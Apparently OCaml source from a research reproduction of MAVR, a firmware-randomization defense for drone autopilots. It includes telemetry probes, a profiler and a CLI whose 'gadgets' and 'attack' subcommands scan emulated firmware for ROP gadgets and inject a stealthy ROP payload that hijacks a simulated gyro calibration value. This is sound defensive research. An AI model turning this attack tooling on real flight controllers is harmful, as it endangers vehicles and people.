(** Events currently retained (≤ capacity). *)
val length : t -> int

(** Events ever recorded, including overwritten ones. *)
val total_recorded : t -> int

val record : t -> cycle:int -> ?kind:kind -> ?value:int -> string -> unit

(** [record] specialized to [Point] with every argument required: the
    per-block tap's entry, kept allocation-free (no optional-argument
    boxing, no event record built until read time). *)
val point : t -> cycle:int -> value:int -> string -> unit
val span_begin : t -> cycle:int -> ?value:int -> string -> unit
val span_end : t -> cycle:int -> ?value:int -> string -> unit
val clear : t -> unit

(** Retained events, oldest first. *)
val events : t -> event list

val pp_event : Format.formatter -> event -> unit

(** Full dump: a header noting overwritten events, then one line per
    retained event. *)
val pp_dump : Format.formatter -> t -> unit

val event_to_json : event -> Json.t
val to_json : t -> Json.t
