lib/mavlink/crc.ml: Char String
