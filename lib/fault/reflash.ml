module Splitmix = Mavr_prng.Splitmix
module Metrics = Mavr_telemetry.Metrics

type params = { page_corrupt_ppm : int; max_retries : int }

let off = { page_corrupt_ppm = 0; max_retries = 0 }
let is_off p = p.page_corrupt_ppm = 0

type stats = {
  sessions : int;
  pages_streamed : int;
  pages_corrupted : int;
  retries : int;
  fallbacks : int;
}

type t = {
  params : params;
  rng : Splitmix.t;
  mutable sessions : int;
  mutable pages_streamed : int;
  mutable pages_corrupted : int;
  mutable retries : int;
  mutable fallbacks : int;
}

let create ~rng params =
  if params.max_retries < 0 then invalid_arg "Reflash.create: max_retries < 0";
  {
    params;
    rng;
    sessions = 0;
    pages_streamed = 0;
    pages_corrupted = 0;
    retries = 0;
    fallbacks = 0;
  }

let params t = t.params

let stats t =
  {
    sessions = t.sessions;
    pages_streamed = t.pages_streamed;
    pages_corrupted = t.pages_corrupted;
    retries = t.retries;
    fallbacks = t.fallbacks;
  }

let hit rng ppm = ppm > 0 && Splitmix.int rng 1_000_000 < ppm

let stream t ~page_bytes code =
  if page_bytes <= 0 then invalid_arg "Reflash.stream: page_bytes <= 0";
  t.sessions <- t.sessions + 1;
  let len = String.length code in
  let buf = Bytes.of_string code in
  let corrupted = ref 0 in
  let npages = (len + page_bytes - 1) / page_bytes in
  for p = 0 to npages - 1 do
    t.pages_streamed <- t.pages_streamed + 1;
    if hit t.rng t.params.page_corrupt_ppm then begin
      incr corrupted;
      t.pages_corrupted <- t.pages_corrupted + 1;
      let base = p * page_bytes in
      let span = min page_bytes (len - base) in
      let off = base + Splitmix.int t.rng span in
      (* Replace, don't just flip: a wire glitch can deliver any byte,
         including the one already there — model the replacement draw
         faithfully rather than guaranteeing a difference. *)
      Bytes.set buf off (Char.chr (Splitmix.int t.rng 256))
    end
  done;
  (Bytes.to_string buf, !corrupted)

let crc16 = Mavr_mavlink.Crc.of_string
let record_retry t = t.retries <- t.retries + 1
let record_fallback t = t.fallbacks <- t.fallbacks + 1

let attach_metrics ~prefix t registry =
  Metrics.sampled_counter registry (prefix ^ ".sessions") (fun () -> t.sessions);
  Metrics.sampled_counter registry (prefix ^ ".pages_streamed") (fun () -> t.pages_streamed);
  Metrics.sampled_counter registry (prefix ^ ".pages_corrupted") (fun () -> t.pages_corrupted);
  Metrics.sampled_counter registry (prefix ^ ".retries") (fun () -> t.retries);
  Metrics.sampled_counter registry (prefix ^ ".fallbacks") (fun () -> t.fallbacks)
