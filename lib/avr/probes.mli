(** Standard CPU telemetry bundle.

    Installs the full instrumentation set on a {!Cpu.t} via the tap
    hooks, so it composes with the batched run loops and the predecode
    cache:

    - instruction-mix counters ([<prefix>.insn.total], [.insn.alu],
      [.insn.call], ... — see {!class_names});
    - interrupt count, dispatch-latency and software-masked-time
      histograms ([.irq.taken], [.irq.latency_cycles],
      [.irq.masked_cycles]);
    - stack high-water mark ([.stack.min_sp], [.stack.high_water_bytes]),
      read from the engine's exact SP watermark;
    - halt-reason counters ([.halt.wild_pc], [.halt.illegal], ...);
    - sampled [.cycles] / [.insn.retired] gauges;
    - a cycle-stamped {e flight recorder}: a bounded ring of recent
      execution events (plus interrupt and halt events), dumped
      automatically the instant the CPU halts or faults — the
      post-mortem artifact for a failed ROP probe (§V-D).

    The bundle attaches at {e block} granularity ({!Cpu.set_block_tap}):
    under the superblock engine the mix counters are batched per block
    from a memoized class breakdown, and the flight recorder logs one
    event per block (leading mnemonic, entry byte address); whenever the
    engine single-steps — interrupt windows, superblocks disabled — the
    same counters advance per instruction and the recorder logs per
    instruction, so every counter total is identical in both modes.

    The overhead contract: with no probes attached the CPU hot path pays
    one flag test per instruction; attaching costs one tap dispatch per
    {e block} (measured in [bench/main.exe] and EXPERIMENTS.md). *)

type t

(** Coarse instruction-mix classes, in counter-index order. *)
val class_names : string array

val n_classes : int

(** [class_of insn] is the index into {!class_names}. *)
val class_of : Isa.t -> int

(** Static mnemonic head (no operands, no allocation). *)
val mnemonic : Isa.t -> string

(** Registry key fragment for a halt reason (["wild_pc"], ...). *)
val halt_key : Cpu.halt -> string

(** [attach ?prefix ?recorder_capacity ~registry cpu] registers the
    metric set under [<prefix>.] (default ["avr"]) and installs the
    taps.  [recorder_capacity] bounds the flight-recorder ring (default
    64 events).  Replaces any taps already installed on [cpu]. *)
val attach : ?prefix:string -> ?recorder_capacity:int -> registry:Mavr_telemetry.Metrics.registry -> Cpu.t -> t

(** Uninstalls all three taps.  Registry entries remain (frozen at their
    last values; sampled gauges keep reading the CPU). *)
val detach : t -> unit

val registry : t -> Mavr_telemetry.Metrics.registry
val recorder : t -> Mavr_telemetry.Recorder.t

(** The retained flight-recorder window, oldest first. *)
val flight_record : t -> Mavr_telemetry.Recorder.event list

(** The dump captured at the most recent halt/fault: halt reason, CPU
    state, and the last N cycle-stamped events.  [None] until the first
    fault. *)
val last_fault_dump : t -> string option

(** Halts observed since attach (recoveries may reset the CPU and keep
    running; the count survives). *)
val faults_seen : t -> int

(** Lowest stack pointer observed (deepest stack; the engine's exact
    watermark), [None] before any SP write. *)
val min_sp : t -> int option

(** Machine-readable fault dump: halt reason, CPU state and the flight
    record as JSON. *)
val dump_to_json : t -> Mavr_telemetry.Json.t

(** {2 Hotness export}

    The raw material for {!Mavr_analysis.Hotspot}: per-block execution
    totals folded out of the per-(block, retired-prefix) counters the
    block tap maintains. *)

type block_stat = {
  bs_addr : int;  (** block entry, {e byte} address *)
  bs_insns : int;  (** compiled block length (longest, if recompiled) *)
  bs_execs : int;  (** block executions (any prefix length) *)
  bs_retired : int;  (** instructions retired inside the block *)
}

(** Every block executed since attach, aggregated by entry address
    (reflash epochs recompile; counts accumulate), sorted by address.
    Blocks never executed are absent. *)
val block_stats : t -> block_stat list

(** Instructions retired single-stepped (interrupt windows, superblocks
    disabled) — execution the block rows don't cover. *)
val stepped_insns : t -> int
