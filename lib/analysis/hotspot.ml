module Image = Mavr_obj.Image
module Probes = Mavr_avr.Probes
module Disasm = Mavr_avr.Disasm
module Isa = Mavr_avr.Isa
module Json = Mavr_telemetry.Json

type block = {
  addr : int;
  symbol : string option;
  sym_offset : int;
  insns : int;
  execs : int;
  retired : int;
  share_pct : float;
  cum_pct : float;
  cfg_leader : bool;
  reachable : bool;
  head : string;
}

type report = {
  total_retired : int;
  block_retired : int;
  stepped : int;
  blocks_executed : int;
  blocks : block list;
}

let head_insn (image : Image.t) addr =
  let len = min 4 (String.length image.code - addr) in
  if len <= 0 then "(out of image)"
  else
    match Disasm.sweep ~pos:addr ~len image.code with
    | [] -> "(data)"
    | l :: _ -> Isa.to_string l.Disasm.insn

let rank ?(top = 20) ~image ~stepped stats =
  let cfg = Cfg.recover image in
  let leaders = Hashtbl.create 1024 in
  List.iter (fun a -> Hashtbl.replace leaders a ()) (Cfg.block_starts cfg);
  let block_retired =
    List.fold_left (fun acc (s : Probes.block_stat) -> acc + s.bs_retired) 0 stats
  in
  let ranked =
    List.sort
      (fun (a : Probes.block_stat) (b : Probes.block_stat) ->
        let c = compare b.bs_retired a.bs_retired in
        if c <> 0 then c else compare a.bs_addr b.bs_addr)
      stats
  in
  let pct r =
    if block_retired = 0 then 0.0 else 100.0 *. float_of_int r /. float_of_int block_retired
  in
  let cum = ref 0 in
  let blocks =
    List.filteri (fun i _ -> i < top) ranked
    |> List.map (fun (s : Probes.block_stat) ->
           cum := !cum + s.bs_retired;
           let symbol, sym_offset =
             match Image.function_containing image s.bs_addr with
             | Some sym -> (Some sym.Image.name, s.bs_addr - sym.Image.addr)
             | None -> (None, 0)
           in
           {
             addr = s.bs_addr;
             symbol;
             sym_offset;
             insns = s.bs_insns;
             execs = s.bs_execs;
             retired = s.bs_retired;
             share_pct = pct s.bs_retired;
             cum_pct = pct !cum;
             cfg_leader = Hashtbl.mem leaders s.bs_addr;
             reachable = Cfg.is_reachable cfg s.bs_addr;
             head = head_insn image s.bs_addr;
           })
  in
  {
    total_retired = block_retired + stepped;
    block_retired;
    stepped;
    blocks_executed = List.length stats;
    blocks;
  }

let block_to_json b =
  Json.Obj
    [
      ("addr", Json.Int b.addr);
      ("symbol", match b.symbol with None -> Json.Null | Some s -> Json.String s);
      ("sym_offset", Json.Int b.sym_offset);
      ("insns", Json.Int b.insns);
      ("execs", Json.Int b.execs);
      ("retired", Json.Int b.retired);
      ("share_pct", Json.Float b.share_pct);
      ("cum_pct", Json.Float b.cum_pct);
      ("cfg_leader", Json.Bool b.cfg_leader);
      ("reachable", Json.Bool b.reachable);
      ("head", Json.String b.head);
    ]

let to_json r =
  Json.Obj
    [
      ("total_retired", Json.Int r.total_retired);
      ("block_retired", Json.Int r.block_retired);
      ("stepped", Json.Int r.stepped);
      ("blocks_executed", Json.Int r.blocks_executed);
      ("blocks", Json.List (List.map block_to_json r.blocks));
    ]

let pp fmt r =
  Format.fprintf fmt "hot superblocks — %d insns retired in %d executed blocks (+%d single-stepped)@."
    r.block_retired r.blocks_executed r.stepped;
  Format.fprintf fmt "%4s  %9s %6s %10s %12s %7s %7s  %-28s %s@." "rank" "addr" "insns"
    "execs" "retired" "share" "cum" "symbol" "head";
  List.iteri
    (fun i b ->
      let sym =
        match b.symbol with
        | Some s -> Printf.sprintf "%s+0x%x" s b.sym_offset
        | None -> if b.reachable then "?" else "(unreachable)"
      in
      let sym = if b.cfg_leader then sym else sym ^ " *" in
      Format.fprintf fmt "%4d  0x%07x %6d %10d %12d %6.2f%% %6.2f%%  %-28s %s@." (i + 1)
        b.addr b.insns b.execs b.retired b.share_pct b.cum_pct sym b.head)
    r.blocks;
  if List.exists (fun b -> not b.cfg_leader) r.blocks then
    Format.fprintf fmt "  (* = entry is not a static CFG block leader)@."
