type t = int

let init = 0xFFFF

let accumulate crc byte =
  let tmp = (byte lxor (crc land 0xFF)) land 0xFF in
  let tmp = (tmp lxor (tmp lsl 4)) land 0xFF in
  ((crc lsr 8) lxor (tmp lsl 8) lxor (tmp lsl 3) lxor (tmp lsr 4)) land 0xFFFF

let accumulate_string crc s = String.fold_left (fun c ch -> accumulate c (Char.code ch)) crc s

let value crc = crc

let of_string s = value (accumulate_string init s)
