(* mavr — command-line front end to the MAVR reproduction.

   Subcommands:
     build      build a firmware profile and write its preprocessed HEX
     gadgets    scan a firmware for ROP gadgets
     randomize  randomize a preprocessed HEX (what the master does at boot)
     attack     run the stealthy attack demo against a profile
     fly        closed-loop defended/undefended flight
     stats      instrumented flight: telemetry registry summary (or --json)
     flight-record  induce a fault and print the flight-recorder dump
     analyze    static analysis: CFG recovery + gadget-survival census, plus the
                data-flow clients (--stack/--stack-verify bound, --taint uplink
                tracking, --validate-seed translation validation)
     lint       check firmware structural invariants (exit 1 on findings)
     campaign   parallel Monte Carlo evaluation campaign (census + attack grid;
                --trace/--progress stream a Perfetto trace and live heartbeats)
     profile    superblock hot-path profiler: ranked hot blocks with symbols
     tables     print the paper-table reproductions (also in bench/main.exe)

   Exit codes: 0 success, 1 operation failed (gadgets absent, randomization
   had no effect or failed validation, output not writable, no fault captured,
   lint findings, an analyze sub-analysis found a violation — taint findings,
   translation mismatch, stack bound under the dynamic watermark — or a
   campaign found a feasible payload or a takeover under the MAVR defense),
   2 usage error. *)

open Cmdliner
module Image = Mavr_obj.Image
module F = Mavr_firmware

let profile_of_string = function
  | "arduplane" -> Ok F.Profile.arduplane
  | "arducopter" -> Ok F.Profile.arducopter
  | "ardurover" -> Ok F.Profile.ardurover
  | s -> (
      (* Accept both the filler-count shorthand ("60") and the canonical
         name it builds ("tiny-60"), so a profile name round-trips
         through the serve/dispatch spec protocol. *)
      let count =
        if String.starts_with ~prefix:"tiny-" s then
          String.sub s 5 (String.length s - 5)
        else s
      in
      match int_of_string_opt count with
      | Some n when n >= 1 -> Ok (F.Profile.tiny ~n ~seed:2024)
      | _ -> Error (`Msg (Printf.sprintf "unknown profile %S (use arduplane/arducopter/ardurover or a filler count)" s)))

let profile_conv = Arg.conv (profile_of_string, fun fmt p -> Format.fprintf fmt "%s" p.F.Profile.name)

let profile_arg =
  Arg.(
    value
    & opt profile_conv (F.Profile.tiny ~n:100 ~seed:2024)
    & info [ "p"; "profile" ] ~docv:"PROFILE"
        ~doc:"Firmware profile: arduplane, arducopter, ardurover, or a filler-function count.")

let seed_arg =
  Arg.(value & opt int 1 & info [ "s"; "seed" ] ~docv:"SEED" ~doc:"Randomization seed.")

let toolchain_arg =
  Arg.(
    value & opt (enum [ ("mavr", F.Profile.mavr); ("stock", F.Profile.stock); ("patched", F.Profile.patched) ]) F.Profile.mavr
    & info [ "t"; "toolchain" ] ~docv:"TC" ~doc:"Toolchain flags: mavr, stock or patched.")

let build_firmware profile toolchain = F.Build.build profile toolchain

let cmd_build =
  let run profile toolchain out =
    let b = build_firmware profile toolchain in
    Format.printf "%a@." Image.pp_summary b.image;
    match out with
    | Some path -> (
        try
          let oc = open_out path in
          output_string oc (Mavr_obj.Symtab.to_hex b.image);
          close_out oc;
          Format.printf "preprocessed HEX written to %s@." path;
          0
        with Sys_error msg ->
          Format.eprintf "error: cannot write %s: %s@." path msg;
          1)
    | None -> 0
  in
  let out =
    Arg.(value & opt (some string) None & info [ "o"; "output" ] ~docv:"FILE"
           ~doc:"Write the preprocessed (symbol-table-prepended) HEX file.")
  in
  Cmd.v (Cmd.info "build" ~doc:"Build a firmware image")
    Term.(const run $ profile_arg $ toolchain_arg $ out)

let cmd_gadgets =
  let run profile toolchain verbose =
    let b = build_firmware profile toolchain in
    let gadgets = Mavr_core.Gadget.scan b.image in
    Format.printf "%d gadgets in %s (%s toolchain)@." (List.length gadgets)
      profile.F.Profile.name
      (if toolchain == F.Profile.stock then "stock" else "mavr");
    List.iter
      (fun (k, n) -> Format.printf "  %-10s %d@." (Mavr_core.Gadget.kind_name k) n)
      (Mavr_core.Gadget.count_by_kind gadgets);
    let found =
      match Mavr_core.Gadget.locate_paper_gadgets b.image with
      | Some g ->
          Format.printf "paper gadgets: stk_move@@0x%x write_mem@@0x%x@." g.stk_move g.write_mem;
          true
      | None ->
          print_endline "paper gadgets: not found";
          false
    in
    if verbose then
      List.iteri
        (fun i g -> if i < 20 then Format.printf "%a@." Mavr_core.Gadget.pp g)
        gadgets;
    if found then 0 else 1
  in
  let verbose = Arg.(value & flag & info [ "v"; "verbose" ] ~doc:"List the first 20 gadgets.") in
  Cmd.v (Cmd.info "gadgets" ~doc:"Scan a firmware for ROP gadgets")
    Term.(const run $ profile_arg $ toolchain_arg $ verbose)

let cmd_randomize =
  let run profile seed =
    let b = build_firmware profile F.Profile.mavr in
    (* Latency is a wall-clock quantity; [Sys.time] (CPU time) only agreed
       with it here by virtue of the process being single-threaded. *)
    let checked, span =
      Mavr_campaign.Clock.time (fun () ->
          Mavr_core.Randomize.randomize_checked ~seed b.image)
    in
    match checked with
    | Error m ->
        Format.eprintf "error: %s@." m;
        1
    | Ok r ->
    Format.printf "randomized + translation-validated %s with seed %d in %.1f ms wall, %.1f ms cpu (host)@."
      profile.F.Profile.name seed
      (1000. *. span.Mavr_campaign.Clock.wall_s)
      (1000. *. span.Mavr_campaign.Clock.cpu_s);
    let moved = Mavr_core.Randomize.layout_distance b.image r in
    Format.printf "functions moved: %d/%d@." moved (Image.function_count b.image);
    Format.printf "modeled on-board startup overhead: %.0f ms (prototype), %.0f ms (production)@."
      (Mavr_core.Serial.programming_ms Mavr_core.Serial.prototype (Image.size r))
      (Mavr_core.Serial.programming_ms Mavr_core.Serial.production (Image.size r));
    if moved = 0 then begin
      Format.eprintf "error: randomization left the layout unchanged@.";
      1
    end
    else 0
  in
  Cmd.v (Cmd.info "randomize" ~doc:"Randomize a firmware (master-processor boot step)")
    Term.(const run $ profile_arg $ seed_arg)

let cmd_attack =
  let run profile seed defended =
    let b = build_firmware profile F.Profile.mavr in
    let ti = Mavr_core.Rop.analyze b in
    let obs = Mavr_core.Rop.observe ti in
    let victim = if defended then Mavr_core.Randomize.randomize ~seed b.image else b.image in
    let cpu = Mavr_avr.Cpu.create () in
    Mavr_avr.Cpu.load_program cpu victim.Image.code;
    ignore (Mavr_avr.Cpu.run cpu ~max_cycles:60_000);
    List.iter (Mavr_avr.Cpu.uart_send cpu)
      (Mavr_core.Rop.v2_stealthy ti obs
         ~writes:[ Mavr_core.Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:0x4141 ~neighbour:0 ]);
    let r = Mavr_avr.Cpu.run cpu ~max_cycles:3_000_000 in
    let cfg =
      Mavr_avr.Cpu.data_peek cpu F.Layout.gyro_cfg
      lor (Mavr_avr.Cpu.data_peek cpu (F.Layout.gyro_cfg + 1) lsl 8)
    in
    Format.printf "target: %s (%s)@." profile.F.Profile.name
      (if defended then "MAVR-randomized" else "unprotected");
    Format.printf "stealthy V2 attack: %s; board %s@."
      (if cfg = 0x4141 then "SUCCEEDED (gyro calibration hijacked)" else "failed")
      (match r with
      | `Halted h -> Format.asprintf "crashed (%a)" Mavr_avr.Cpu.pp_halt h
      | `Budget_exhausted -> "still running");
    0
  in
  let defended = Arg.(value & flag & info [ "d"; "defended" ] ~doc:"Attack a MAVR-randomized image.") in
  Cmd.v (Cmd.info "attack" ~doc:"Run the stealthy ROP attack")
    Term.(const run $ profile_arg $ seed_arg $ defended)

let cmd_fly =
  let run profile defended ms =
    let b = build_firmware profile F.Profile.mavr in
    let defense =
      if defended then
        Mavr_sim.Scenario.Mavr
          { Mavr_core.Master.default_config with watchdog_window_cycles = 20_000 }
      else Mavr_sim.Scenario.No_defense
    in
    let s = Mavr_sim.Scenario.create ~image:b.image defense in
    Mavr_sim.Scenario.run s ~ms:(float_of_int ms);
    Format.printf "%a@." Mavr_sim.Scenario.pp_report (Mavr_sim.Scenario.report s);
    0
  in
  let defended = Arg.(value & flag & info [ "d"; "defended" ] ~doc:"Enable the MAVR master.") in
  let ms = Arg.(value & opt int 3000 & info [ "ms" ] ~docv:"MS" ~doc:"Simulated milliseconds.") in
  Cmd.v (Cmd.info "fly" ~doc:"Closed-loop flight simulation")
    Term.(const run $ profile_arg $ defended $ ms)

let json_flag =
  Arg.(value & flag & info [ "json" ] ~doc:"Emit machine-readable JSON instead of the human summary.")

(* Shared rig for the telemetry subcommands: an instrumented closed-loop
   scenario, optionally with attacker traffic on the uplink after a
   warm-up third of the flight. *)
let instrumented_flight profile ~defended ~ms ~uplink_after_warmup =
  let b = build_firmware profile F.Profile.mavr in
  let defense =
    if defended then
      Mavr_sim.Scenario.Mavr
        { Mavr_core.Master.default_config with watchdog_window_cycles = 20_000 }
    else Mavr_sim.Scenario.No_defense
  in
  let s = Mavr_sim.Scenario.create ~image:b.image defense in
  let registry = Mavr_telemetry.Metrics.create () in
  let probes = Mavr_sim.Scenario.attach_telemetry s ~registry in
  let warmup = max 1 (ms / 3) in
  Mavr_sim.Scenario.run s ~ms:(float_of_int warmup);
  (match uplink_after_warmup b with [] -> () | frames -> Mavr_sim.Scenario.inject s frames);
  Mavr_sim.Scenario.run s ~ms:(float_of_int (max 1 (ms - warmup)));
  (s, registry, probes)

let cmd_stats =
  let run profile defended ms attack json =
    let uplink b =
      if not attack then []
      else
        let ti = Mavr_core.Rop.analyze b in
        let obs = Mavr_core.Rop.observe ti in
        Mavr_core.Rop.v2_stealthy ti obs
          ~writes:
            [ Mavr_core.Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:0x4141 ~neighbour:0 ]
    in
    let _s, registry, _probes =
      instrumented_flight profile ~defended ~ms ~uplink_after_warmup:uplink
    in
    if json then
      print_endline (Mavr_telemetry.Json.to_string ~indent:2 (Mavr_telemetry.Metrics.to_json registry))
    else Format.printf "%a@." Mavr_telemetry.Metrics.pp_summary registry;
    0
  in
  let defended = Arg.(value & flag & info [ "d"; "defended" ] ~doc:"Enable the MAVR master.") in
  let ms = Arg.(value & opt int 2000 & info [ "ms" ] ~docv:"MS" ~doc:"Simulated milliseconds.") in
  let attack =
    Arg.(value & flag & info [ "attack" ] ~doc:"Inject the stealthy V2 attack after warm-up.")
  in
  Cmd.v
    (Cmd.info "stats" ~doc:"Instrumented flight: print the telemetry registry")
    Term.(const run $ profile_arg $ defended $ ms $ attack $ json_flag)

let cmd_flight_record =
  let run profile defended ms json =
    let uplink b = Mavr_core.Rop.crash_probe (Mavr_core.Rop.analyze b) in
    let _s, _registry, probes =
      instrumented_flight profile ~defended ~ms ~uplink_after_warmup:uplink
    in
    match Mavr_avr.Probes.last_fault_dump probes with
    | Some dump ->
        if json then
          print_endline
            (Mavr_telemetry.Json.to_string ~indent:2 (Mavr_avr.Probes.dump_to_json probes))
        else print_string dump;
        0
    | None ->
        Format.eprintf "error: no fault captured (the crash probe did not trip the CPU)@.";
        1
  in
  let defended =
    Arg.(value & flag & info [ "d"; "defended" ] ~doc:"Enable the MAVR master (recover after the fault).")
  in
  let ms = Arg.(value & opt int 1500 & info [ "ms" ] ~docv:"MS" ~doc:"Simulated milliseconds.") in
  Cmd.v
    (Cmd.info "flight-record"
       ~doc:"Fire a crash probe at the firmware and print the flight-recorder fault dump")
    Term.(const run $ profile_arg $ defended $ ms $ json_flag)

let cmd_disasm =
  let run profile toolchain symbol count =
    let b = build_firmware profile toolchain in
    let image = b.F.Build.image in
    let pos, len =
      match symbol with
      | None -> (image.Mavr_obj.Image.text_start, count * 2)
      | Some name -> (
          match Mavr_obj.Image.find image name with
          | s -> (s.addr, min s.size (count * 2))
          | exception Not_found ->
              Format.eprintf "unknown symbol %S@." name;
              exit 2)
    in
    print_string (Mavr_avr.Disasm.listing ~pos ~len image.Mavr_obj.Image.code);
    0
  in
  let symbol =
    Arg.(value & opt (some string) None & info [ "f"; "function" ] ~docv:"NAME"
           ~doc:"Disassemble one function (e.g. handle_param_set).")
  in
  let count =
    Arg.(value & opt int 32 & info [ "n" ] ~docv:"N" ~doc:"Instruction-word budget.")
  in
  Cmd.v (Cmd.info "disasm" ~doc:"Disassemble a firmware region")
    Term.(const run $ profile_arg $ toolchain_arg $ symbol $ count)

let cmd_lifetime =
  let run k boots_per_day attack_rate =
    let policy = { Mavr_core.Lifetime.randomize_every_boots = k } in
    let endurance = Mavr_avr.Device.atmega2560.flash_endurance in
    Format.printf "policy: randomize every %d boot(s); %0.1f boots/day; %.3f attacks/boot@." k
      boots_per_day attack_rate;
    Format.printf "  reflashes per boot : %.3f@."
      (Mavr_core.Lifetime.reflashes_per_boot policy ~attack_rate_per_boot:attack_rate);
    Format.printf "  boots to wear-out  : %.0f (of %d rated cycles)@."
      (Mavr_core.Lifetime.boots_until_wearout policy ~endurance ~attack_rate_per_boot:attack_rate)
      endurance;
    Format.printf "  calendar life      : %.1f years@."
      (Mavr_core.Lifetime.years_until_wearout policy ~endurance ~attack_rate_per_boot:attack_rate
         ~boots_per_day);
    Format.printf "  layout staleness   : %d boot(s) per layout@."
      (Mavr_core.Lifetime.layout_exposure_boots policy);
    0
  in
  let k = Arg.(value & opt int 1 & info [ "k"; "every" ] ~docv:"K" ~doc:"Randomize every K boots.") in
  let bpd = Arg.(value & opt float 10.0 & info [ "boots-per-day" ] ~docv:"N") in
  let ar = Arg.(value & opt float 0.0 & info [ "attack-rate" ] ~docv:"R" ~doc:"Detected attacks per boot.") in
  Cmd.v (Cmd.info "lifetime" ~doc:"Randomization frequency vs flash endurance (paper §V-C)")
    Term.(const run $ k $ bpd $ ar)

let cmd_entropy =
  let run n pad =
    Format.printf "n = %d shuffleable symbols@." n;
    Format.printf "  layout entropy            : %.1f bits (log2 n!)@."
      (Mavr_core.Security.entropy_bits ~n);
    if pad > 0 then
      Format.printf "  with %d B random padding : %.1f bits@." pad
        (Mavr_core.Security.entropy_bits_with_padding ~n ~slack_bytes:pad);
    Format.printf "  E[brute force], static    : %s attempts@."
      (let v = Mavr_core.Security.expected_attempts_static ~n in
       if Mavr_bignum.Nat.digits v > 30 then
         Printf.sprintf "a %d-digit number of" (Mavr_bignum.Nat.digits v)
       else Mavr_bignum.Nat.to_string v);
    Format.printf "  E[brute force], MAVR      : %s attempts@."
      (let v = Mavr_core.Security.expected_attempts_rerandomizing ~n in
       if Mavr_bignum.Nat.digits v > 30 then
         Printf.sprintf "a %d-digit number of" (Mavr_bignum.Nat.digits v)
       else Mavr_bignum.Nat.to_string v);
    0
  in
  let n = Arg.(value & opt int 800 & info [ "n"; "symbols" ] ~docv:"N") in
  let pad = Arg.(value & opt int 0 & info [ "padding" ] ~docv:"BYTES") in
  Cmd.v (Cmd.info "entropy" ~doc:"Layout entropy and brute-force effort (paper §V-D, §VIII-B)")
    Term.(const run $ n $ pad)

(* The analyze --json document carries a schema version so downstream
   consumers (bin/trace_check --analyze, bench/check) can reject drift:
     1  cfg + gadgets + census (PR 5)
     2  adds optional stack / taint / translation_validation /
        stack_verify sections and the toolchain field (this version) *)
let analyze_schema_version = 2

(* Dynamic cross-check of the static stack bound: fly the image with
   probes attached, drive the uplink with benign PARAM_SET frames (the
   deepest interprocedural path), and compare the exact SP watermark
   against the static image bound. *)
let stack_verify_run (img : Image.t) ~ms =
  let module Cpu = Mavr_avr.Cpu in
  let registry = Mavr_telemetry.Metrics.create () in
  let cpu = Cpu.create () in
  Cpu.load_program cpu img.Image.code;
  let probes = Mavr_avr.Probes.attach ~registry cpu in
  ignore (Cpu.run cpu ~max_cycles:60_000);
  for i = 0 to 7 do
    let payload = String.init 16 (fun k -> Char.chr ((1 + i + k) land 0x3F)) in
    Cpu.uart_send cpu
      (Mavr_mavlink.Frame.encode
         { Mavr_mavlink.Frame.seq = i; sysid = 255; compid = 0; msgid = 23; payload })
  done;
  ignore (Cpu.run cpu ~max_cycles:(16_000 * ms));
  Mavr_avr.Probes.min_sp probes

let cmd_analyze =
  let run profile toolchain layouts stack stack_verify taint validate_seed json =
    let module J = Mavr_telemetry.Json in
    let module Sd = Mavr_analysis.Stackdepth in
    let b = build_firmware profile toolchain in
    let img = b.F.Build.image in
    let cfg = Mavr_analysis.Cfg.recover img in
    let stats = Mavr_analysis.Cfg.stats cfg in
    let gadgets = Mavr_core.Gadget.scan img in
    let census = Mavr_analysis.Survival.census ~layouts img in
    let sd =
      if stack || stack_verify <> None then Some (Sd.analyze cfg) else None
    in
    let taint_r = if taint then Some (Mavr_analysis.Taint.analyze cfg) else None in
    let equiv_r =
      Option.map
        (fun seed ->
          match Mavr_core.Randomize.randomize ~seed img with
          | exception Mavr_core.Patch.Unpatchable m ->
              Error [ { Mavr_analysis.Equiv.at = 0; what = "unpatchable image: " ^ m } ]
          | r -> Mavr_analysis.Equiv.validate ~original:img ~randomized:r)
        validate_seed
    in
    (* Dynamic cross-check: static bound must dominate the SP watermark. *)
    let verify_r =
      Option.map
        (fun ms ->
          let stack_top = F.Layout.stack_top in
          let min_sp = stack_verify_run img ~ms in
          let static = (Option.get sd).Sd.image_bound in
          let ok =
            match (static, min_sp) with
            | Sd.Finite b, Some sp -> stack_top - sp <= b
            | _ -> false
          in
          (ms, stack_top, min_sp, ok))
        stack_verify
    in
    if json then
      print_endline
        (J.to_string ~indent:2
           (J.Obj
              ([
                 ("schema", J.Int analyze_schema_version);
                 ("profile", J.String profile.F.Profile.name);
                 ( "toolchain",
                   J.String
                     (if toolchain == F.Profile.stock then "stock"
                      else if toolchain == F.Profile.patched then "patched"
                      else "mavr") );
                 ("cfg", Mavr_analysis.Cfg.stats_to_json stats);
                 ( "gadgets",
                   J.Obj
                     (("total", J.Int (List.length gadgets))
                     :: List.map
                          (fun (k, n) -> (Mavr_core.Gadget.kind_name k, J.Int n))
                          (Mavr_core.Gadget.count_by_kind gadgets)) );
                 ("census", Mavr_analysis.Survival.to_json census);
               ]
              @ (match sd with
                | Some r -> [ ("stack", Sd.to_json ~per_function:false img r) ]
                | None -> [])
              @ (match taint_r with
                | Some r -> [ ("taint", Mavr_analysis.Taint.to_json r) ]
                | None -> [])
              @ (match equiv_r with
                | Some r -> [ ("translation_validation", Mavr_analysis.Equiv.to_json r) ]
                | None -> [])
              @
              match verify_r with
              | Some (ms, stack_top, min_sp, ok) ->
                  [
                    ( "stack_verify",
                      J.Obj
                        ([ ("ms", J.Int ms); ("stack_top", J.Int stack_top) ]
                        @ (match min_sp with
                          | Some sp ->
                              [
                                ("min_sp", J.Int sp);
                                ("dynamic_high_water", J.Int (stack_top - sp));
                              ]
                          | None -> [])
                        @ [
                            ("static_bound", Sd.bound_to_json (Option.get sd).Sd.image_bound);
                            ("ok", J.Bool ok);
                          ]) );
                  ]
              | None -> [])))
    else begin
      Format.printf "%s (%d B image)@." profile.F.Profile.name (Image.size img);
      Format.printf "  %a@." Mavr_analysis.Cfg.pp_stats stats;
      Format.printf "  gadgets: %d total (%s)@." (List.length gadgets)
        (String.concat ", "
           (List.map
              (fun (k, n) -> Printf.sprintf "%s %d" (Mavr_core.Gadget.kind_name k) n)
              (Mavr_core.Gadget.count_by_kind gadgets)));
      Format.printf "  %a@." Mavr_analysis.Survival.pp census;
      Option.iter (fun r -> Format.printf "%t@." (fun fmt -> Sd.pp fmt img r)) sd;
      Option.iter
